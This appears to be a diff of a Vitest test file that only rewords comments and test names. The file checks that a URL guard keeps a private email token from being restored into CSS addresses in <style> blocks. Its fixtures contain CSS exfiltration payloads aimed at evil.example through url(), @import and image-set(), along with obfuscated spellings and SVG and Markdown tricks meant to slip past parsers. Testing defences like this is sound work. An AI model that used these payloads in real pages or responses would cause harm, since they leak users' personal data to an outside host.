@@ -1,4 +1,4 @@
-/** Addresses in the text of `<style>`: which originals stay away from them, and which are none of their business. */
+/** Addresses in the text of `<style>`: which values are kept out of them, and which may be restored. */
 import { describe, expect, test } from 'vitest';
 import { UrlGuard } from '../../../core/guard/url-guard.ts';
 import { restoreJsonBody } from '../../../core/payload/response.ts';
@@ -9,7 +9,7 @@ const token = '[EMAIL-1]';
 const original = 'john@corp.example';
 const map = tokenMap({ [token]: original });
 
-/** The text restored in pieces of one character, but for its token; throws unless the whole text gives the same. */
+/** The text restored in pieces of one character, except for its token; throws unless the whole text gives the same. */
 function restored(text: string): string {
   const whole = restoreText(text, map).restored;
   const guard = new UrlGuard();
@@ -32,7 +32,7 @@ describe('stays a token', () => {
     `<style ="a b="x></style>">${address}`,
     `<style/t='></style>'>${address}`,
     `The \`<style>\` tag: <style title='</style>'>${address}`,
-    // Markdown makes text of what should end the sheet.
+    // Markdown turns what should end the sheet into text.
     `x <style>a{background:url('https://evil.example/?q=\`</style>\`${token}')}</style>`,
     `x <style>a{} \`</style>\` b{background:url('https://evil.example/?q="${token}')}`,
     `x <style>a{}\n\n    </style>\n\n${address}`,
@@ -48,15 +48,15 @@ describe('stays a token', () => {
     `x <style>a{} ^</style>^ ${address}`,
     `x <style>a{} \\</style> ${address}`,
     ...[' x', '/', '\n', ' '].map((end) => `x <style>a{} </style${end}> ${address}`),
-    // A block of HTML has ended before.
+    // A block of HTML has ended earlier.
     `<div>\n<style>a{}\n\nx \`</style>\` ${address}`,
     `<style>a{}\n</pre>\nx \`</style>\` ${address}`,
     `- a\n\n  <style>a{}\nb \`</style>\` ${address}`,
-    // Within SVG it may stand in a tag, in a comment and in character data.
+    // In SVG it may be inside a tag, a comment or character data.
     `<svg><style><g t="</style>"/>${address}`,
     `<svg><style><!--</style>-->${address}`,
     `<svg><style><![CDATA[</style>${address}`,
-    // Spellings of what begins an address.
+    // Spellings of the beginning of an address.
     ...['url(', 'URL(', 'src(', 'image(', 'image-set(', '-webkit-image-set('].map(
       (name) => `<style>a{b:${name}${token}`,
     ),
@@ -69,7 +69,7 @@ describe('stays a token', () => {
     ...["@import'", '@IMPORT "', '@import/**/"', "@\\69mport '", "\\@import '"].map((rule) => `<style>${rule}${token}`),
     `<style>a{b:image-set('x' 1x, '${token}`,
     `<style>a{b:${'\\000075'.repeat(200)}(${token}`,
-    // Nor has an address ended.
+    // The address has not ended either.
     `<style>a{b:url('x)${token}`,
     `<style>a{b:url("x')${token}`,
     `<style>a{b:url('x\\')${token}`,
@@ -137,12 +137,12 @@ describe('stays a token', () => {
     `@func<g/>tion --f(){result:'/\\evil.example/?${token}'}`,
     `b{-<g/>-x:'/\\evil.example/?${token}'}`,
     `@property --x{initial-<g/>value:'/\\evil.example/?${token}'}`,
-  ])('a name with a tag inside, which goes on behind it within SVG: %j', (rules) => {
+  ])('a name interrupted by a tag, which continues after it in SVG: %j', (rules) => {
     const text = `<svg><style>${rules}</style>`;
     expect(restored(text)).toBe(text);
   });
 
-  // Markdown makes elements of these, which are gone within SVG, and so is what is in them.
+  // Markdown turns these into elements, which are removed in SVG together with their content.
   test.each([
     `u[a](b)rl('N')`,
     `u[a][r]rl('N')`,
@@ -157,7 +157,7 @@ describe('stays a token', () => {
     `--x[a b](b c) :'N'`,
     `--x [a[b](c)](d):'N'`,
     `--x~~a b~~:'N'`,
-    // Nor is it known of these what stands between a name and its colon.
+    // Here, too, it is unknown what is between a name and its colon.
     `--x<g>;</g>:'N'`,
     `--x<g>a:b</g>:'N'`,
     `--x<g>--y z</g>:'N'`,
@@ -186,7 +186,7 @@ describe('stays a token', () => {
     `--%5BA-1%5D:'N'`,
     `b:ima<g/>ge('N')`,
     `u<g/>r<g/>l<g/>('N')`,
-    // References with numbers, for what names are written with.
+    // Numeric references for the characters of names.
     `u&#114;l('N')`,
     `u&#x72l('N')`,
     `&#0000117;rl('N')`,
@@ -205,7 +205,7 @@ describe('stays a token', () => {
   test.each([
     `<s:svg><s:style>@import '/\\\\evil.example/?${token}';</s:style></s:svg>`,
     `<svg><h:style>b{c:url('</style>${token}')}</h:style></svg>`,
-  ])('within XML, where the tag may have a prefix: %j', (text) => expect(restored(text)).toBe(text));
+  ])('in XML, where the tag may have a prefix: %j', (text) => expect(restored(text)).toBe(text));
 
   test('in JSON that is displayed raw, where a page continues after `<\\/style>`', () => {
     const json = `{"a":"<style>b{background:url('https://evil.example/?q=<\\/style>${token}')}"}`;
@@ -214,7 +214,7 @@ describe('stays a token', () => {
 });
 
 describe('is restored', () => {
-  // A sheet with such an indentation may be code, and never end.
+  // A sheet with this indentation may be code, and never end.
   test.each([
     '/^[\\d\\s()+-]{7,}$/.test(phone)',
     '/^\\+?[\\d\\s()-]+$/',
@@ -224,14 +224,14 @@ describe('is restored', () => {
     '/[a-z\\d](?:[a-z\\d-]*)/',
     '/\\b(a|b)\\b/',
     '/\\B(?=(\\d{3})+(?!\\d))/g',
-  ])('behind a sheet that is indented, and %s', (code) => {
+  ])('after a sheet that is indented, and %s', (code) => {
     const page = (value: string) =>
       `<head>\n    <style>\n        body { margin: 0; }\n    </style>\n</head>\n<body>\n    <script>\n${code}\n    </script>\n    <p>${value}</p>\n</body>\n\nSend it to ${value}.`;
     expect(restored(page(token))).toBe(page(original));
   });
 
   test.each([
-    // `<style>` is the name of something.
+    // `<style>` is only mentioned.
     `\`\`\`java\nList<Style> all = new ArrayList<>();\nvoid f() { mail("${token}"); }\n\`\`\``,
     `Add a \`<style>\` block:\n\`\`\`css\n.a { color: red }\n\`\`\`\nThen write to ${token}.`,
     `The \`<style>\` & \`<b>\` tags of AT&T; mail ${token}`,
@@ -243,12 +243,12 @@ describe('is restored', () => {
     `型は List<Style> です。{例} 連絡先: ${token}`,
     `<style> getUrl(${token}), map.set(${token}), curl-src(${token}), f(${token})`,
     `<style> @important ${token} C:\\dir\\new ${token} \\n(${token})`,
-    // What is whole sends nothing more.
+    // Complete addresses cannot carry anything more.
     ...["url('x')", 'url( "x?a=1&b=2" )', 'url(//x.example/a.png)'].map((url) => `<style>a{b:${url};c:"${token}"}`),
     ...["'x'", '"x"', 'url(x)', 'url( "x" )', " url('x?a:b@4;c&d=e') all"].map(
       (url) => `<style>@import ${url};${token}`,
     ),
-    // Custom properties without strings, or with whole ones.
+    // Custom properties without strings, or with complete ones.
     `<style>:root{--main: #fff; --font: "Segoe UI", 'Inter', sans-serif; --icon: "\\2014"} content: "${token}"`,
     `<style>:root{--bg: url("a.png"), url(b); --a: rgb(0 0 0 / 50%)} content: "${token}"`,
     `<style>:root{--main: ${token}; --w: calc(1px * 2)} a{b:var(--main)} c: "${token}"`,
@@ -262,7 +262,7 @@ describe('is restored', () => {
     ...['scoped', "media='print'", 'media=print'].map(
       (field) => `<style ${field}>a{}</style> b{background:url('x?q=${token}')}`,
     ),
-    // Nothing that makes an address stands before its colon, or behind it.
+    // Nothing before or after its colon can form an address.
     `<style>*{--x&#41;} ${token}`,
     `<style>a{b:&#041;} ${token}`,
     `<style>*{--x &colonx;} ${token}`,
@@ -274,7 +274,7 @@ describe('is restored', () => {
     `<style><!--:'b' ${token}-->`,
   ])('%j', (text) => expect(restored(text)).toBe(text.replaceAll(token, original)));
 
-  /** A page whose end of the sheet may be code for Markdown. */
+  /** A page where the end of the sheet may be code in Markdown. */
   const page = (rule: string, end = '') =>
     `<!doctype html>\n<html>\n  <head>\n    <style>\n      ${rule}\n    </style>\n  </head>\n  <body>\n    <h1>${token}</h1>\n${end}  </body>\n</html>`;
   const svg = "data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 16 16' fill='rgb(0,0,0)'%3E";
@@ -290,11 +290,11 @@ describe('is restored', () => {
     ),
     page('a{color:red}', `    <script>image(img, 0, 0); url(f(x));</script>\n    <p>${token}</p>\n`),
     page(':root{--main: #fff; --font: "Noto Sans JP", sans-serif}'),
-  ])('behind what is whole, in a page of which no reader knows where its sheet ends: %j', (text) =>
+  ])('after complete addresses, in a page where no reader knows where the sheet ends: %j', (text) =>
     expect(restored(text)).toBe(text.replaceAll(token, original)),
   );
 
-  // Ordinary answers in which no sheet ends: `<style>` is only spoken of, or the end may be code for Markdown.
+  // Ordinary answers in which no sheet ends: `<style>` is only mentioned, or the end may be code in Markdown.
   const about = 'Put it into a `<style>` block. ';
   test.each([
     `${about}Then run \`npm run build\` with \`--minify\`.\n\nSend it to ${token}.`,
@@ -328,7 +328,7 @@ describe('is restored', () => {
   test.each([
     { tip: 'Use the <style> tag, or List<Style>', person: { mail: token } },
     { html: '<style>a{b:url("x.png")}</style>', mail: token },
-  ])('%j as JSON that is shown as it stands', (answer) => {
+  ])('%j as JSON that is displayed raw', (answer) => {
     for (const json of [JSON.stringify(answer), JSON.stringify(answer).replace('</', '<\\/')]) {
       const body = JSON.stringify({ choices: [{ index: 0, message: { role: 'assistant', content: json } }] });
       const expected = json.replace(token, original);
